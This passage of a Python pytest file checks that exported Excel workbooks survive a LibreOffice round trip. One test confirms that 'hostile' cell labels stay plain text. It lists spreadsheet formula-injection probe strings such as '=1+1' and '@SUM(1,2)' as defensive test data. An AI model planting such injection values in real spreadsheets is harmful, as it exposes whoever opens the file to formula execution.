    args = ["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(xlsx)]
    result = soffice(args, tmp_path)
    resaved = out / xlsx.name
    assert result.returncode == 0 and resaved.exists(), result.stderr
    book = load_workbook(resaved)
    assert book.sheetnames == workbook.sheetnames
    links = [r["Sheet"].hyperlink.location for r in records(book["Index"])]
    assert links == [f"'{n}'!A1" for n in workbook.sheetnames[1:]]
    assert book["Breakdowns"].max_row == workbook["Breakdowns"].max_row
    mine, theirs = records(workbook["Breakdowns"])[-1], records(book["Breakdowns"])[-1]
    # LibreOffice reads the exact double and saves 15 significant digits of it
    assert theirs["Numerator"].value == pytest.approx(mine["Numerator"].value, rel=1e-14)
    assert theirs["Value"].value == pytest.approx(mine["Value"].value, rel=1e-14)
    assert {str(c.sqref) for c in book["Summary"].conditional_formatting} == {
        str(c.sqref) for c in workbook["Summary"].conditional_formatting
    }


@pytest.mark.slow
def test_libreoffice_reads_hostile_labels_as_text(hostile_workbook: Path, tmp_path: Path) -> None:
    """LibreOffice opens the hostile workbook and saves it back without a single formula."""
    out = tmp_path / "out"
    result = soffice(
        [
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            str(out),
            str(hostile_workbook),
        ],
        tmp_path,
    )
    resaved = out / hostile_workbook.name
    assert result.returncode == 0 and resaved.exists(), result.stderr
    wb = load_workbook(resaved)
    values = set()
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in ("=TRUE()", "=FALSE()"):  # how LibreOffice saves booleans
                    continue
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.add(cell.value)
    assert {"=1+1", "+1+2", "@SUM(1,2)", HOSTILE[0]} <= values
